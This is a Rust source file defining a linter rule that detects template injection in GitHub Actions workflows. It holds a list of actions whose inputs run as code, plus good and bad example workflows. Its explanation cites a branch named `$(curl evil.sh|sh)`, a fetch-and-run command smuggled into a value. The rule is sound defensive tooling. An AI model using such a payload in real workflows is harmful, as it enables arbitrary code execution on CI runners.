//! `template-injection`

use super::{ANYWHERE, Check, Example, Findings, Loosens, Refused, Rule, Scope};
use crate::finding::Severity;
use crate::origin::{At, Origin};
use crate::pipeline::Part;
use crate::pipeline::step::{Kind, Run};
use crate::pipeline::uses::Used;
use crate::source::FaultKind;
use crate::view::actions::is;
use crate::view::plain;
use crate::view::scope::{Held, Spot};
use crate::view::untrusted;

/// Inputs of actions that are run as code: as commands, as scripts, or as what an interpreter evaluates. Read from the actions' own
/// pages, 2026-11.
const CODE: &[(&str, &str)] = &[
    ("8398a7/action-slack", "with.custom_payload"),
    ("actions/github-script", "with.script"),
    ("amadevus/pwsh-script", "with.script"),
    ("appleboy/ssh-action", "with.script"),
    ("azure/cli", "with.inlineScript"),
    ("azure/powershell", "with.inlineScript"),
    ("cardinalby/js-eval-action", "with.expression"),
    ("devorbitus/yq-action-output", "with.cmd"),
    ("gautamkrishnar/blog-post-workflow", "with.item_exec"),
    ("jannekem/run-python-script-action", "with.script"),
    ("mikefarah/yq", "with.cmd"),
    ("nick-fields/retry", "with.command"),
    ("sergeysova/jq-action", "with.cmd"),
    ("skitionek/notify-microsoft-teams", "with.overwrite"),
];

const PLAIN: &str = "on: { push: {} }
env: { LEVEL: debug }
jobs:
  test:
    runs-on: ubuntu-24.04
    strategy: { matrix: { version: ['3.13', '3.14'] } }
    steps:
      - run: make ${{ env.LEVEL }} ${{ matrix.version }} ${{ github.sha }} ${{ github.event.number && 'one' || 'none' }}
";

pub(super) static RULE: Rule = Rule {
    id: "template-injection",
    summary: "a value becomes part of a program's text",
    why: "An expression is replaced before the shell reads the script, so a branch called `$(curl evil.sh|sh)` is a command. \
          A value that comes in through the environment stays a value: write `env.TITLE = 'Branch` and `\"$TITLE\"`.",
    severity: Severity::Error,
    settings: r#"plain | Bool | doc "Whether to tell, in files of YAML, expressions as well that come out as a number, a commit or what is written there." | default = false,"#,
    loosens: &[("plain", Loosens::Less)],
    refused: &[Refused { kind: FaultKind::Expression, path: ANYWHERE }],
    check: Check::Project(check),
    examples: &[
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "echo ${{ github.head_ref }}" }] }"#)]),
        Example::bad(&[(
            "ci",
            r#"{ jobs.test.steps = [{ uses = "actions/github-script", with.script = ["console.log('", 'Branch, "')"] }] }"#,
        )]),
        Example::bad(&[(
            "ci",
            r#"{ jobs.test.steps = [{ uses = "Actions/GitHub-Script", with.Script = ["console.log('", 'Branch, "')"] }] }"#,
        )]),
        Example::bad(&[("ci", r#"{ jobs.test.defaults.shell = ["bash -c '", 'Branch, "' {0}"] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.services.db = { image = "db", command = ["-c ", 'Branch] } }"#)]).project(
            r#"{ images.db = "postgres:18.0@sha256:0d4f5a2b9c1c1f7a9c1e5f0a6d3b2c1e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c" }"#,
        ),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ uses = "mikefarah/yq", with.cmd = [".a = ", 'Branch] }] }"#)]),
        Example::good(&[("ci", r#"{ jobs.test = { matrix.shell = ["bash", "sh"], defaults.shell = 'Matrix "shell" } }"#)]),
        Example::good(&[("ci", r#"{ jobs.test.steps = [{ run = "echo \"$HEAD\"", env.HEAD = 'Branch }] }"#)]),
        Example::good(&[(".github/workflows/ci.yml", PLAIN)]),
        Example::bad(&[(".github/workflows/ci.yml", PLAIN)]).policy("{ rules.template-injection.settings.plain = true }"),
        Example::bad(&[(
            ".github/workflows/ci.yml",
            "on: { push: {} }
env: { NAME: '${{ github.ref_name }}' }
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make ${{ env.NAME }}
",
        )]),
        Example::good(&[(
            "ci",
            r#"{ jobs.test.steps = [{ uses = "actions/github-script", with.script = "console.log(process.env.HEAD)", env.HEAD = 'Branch }] }"#,
        )]),
    ],
    ..Rule::GITHUB
};

fn check(scope: &Scope<'_>, findings: &mut Findings) {
    let every = scope.fills_in() || scope.settings.flag("plain");
    for (pipeline, job, step) in scope.steps() {
        if let Kind::Run(run) = &step.kind.value
            && run.script.contains("${{")
        {
            let spot = Spot { pipeline, job: Some(job), step: Some(step) };
            if !every && run.said.as_deref().is_some_and(|said| plain::is_plain(scope.project, spot, said)) {
                continue;
            }
            let mut places = expressions(run);
            let first = places.next().unwrap_or(run.script.origin);
            places
                .fold(
                    findings.report(pipeline.step_identity(job, step), first, "the commands hold an expression").key("run"),
                    |said, origin| said.related(origin, "and here"),
                )
                .decided(scope.settings, "plain")
                .help("bind the value under `env` and use the variable between double quotes");
        }
    }
    for held in scope.values() {
        let uses = held.spot.step.and_then(|step| match &step.kind.value {
            Kind::Uses(uses) => Some(uses),
            _ => None,
        });
        let action = uses.map(|uses| uses.action.value.as_str());
        let code =
            CODE.iter().any(|(name, field)| held.field.eq_ignore_ascii_case(field) && uses.is_some_and(|uses| is(uses, name)));
        if let Some((what, _)) =
            untrusted::in_value(scope.project, held.spot, held.value).filter(|_| is_command_line(held, action))
        {
            findings
                .report(held.spot.identity(), held.value.origin, format!("{what} becomes part of a command line"))
                .key(held.field.clone())
                .help("write the command line without it; what outsiders write reaches a program through its environment");
            continue;
        }
        let told = |part: &&At<Part>| {
            let put_in = code && matches!(part.value, Part::Reference(_));
            put_in && (every || !plain::is_part_plain(scope.project, held.spot, part))
        };
        for part in held.value.parts.iter().filter(told) {
            findings
                .report(held.spot.identity(), part.origin, "this input is run as code")
                .key(held.field.clone())
                .decided(scope.settings, "plain")
                .mend(
                    "write a reference such as 'Branch or 'Input \"name\", and hand it over through `env`",
                    "bind the value under `env` and use the variable between double quotes",
                );
        }
    }
}

/// Where expressions stand in commands.
fn expressions(run: &Run) -> impl Iterator<Item = Origin> {
    let parts = run.said.iter().flat_map(|said| &said.parts);
    parts.filter(|part| !matches!(part.value, Part::Text(_))).map(|part| part.origin)
}

/// Whether a value is taken apart into the words of a command: a default shell, what a container is started with, what an image
/// that is used as an action is given.
fn is_command_line(held: &Held<'_>, action: Option<&str>) -> bool {
    let last = held.field.rsplit('.').next().unwrap_or_default();
    match action {
        Some(action) => {
            Used::of(action).image().is_some()
                && ["with.args", "with.entrypoint"].iter().any(|field| held.field.eq_ignore_ascii_case(field))
        }
        None if held.spot.step.is_some() => false,
        None => {
            held.field == "defaults.shell" || held.field.contains('.') && ["options", "entrypoint", "command"].contains(&last)
        }
    }
}
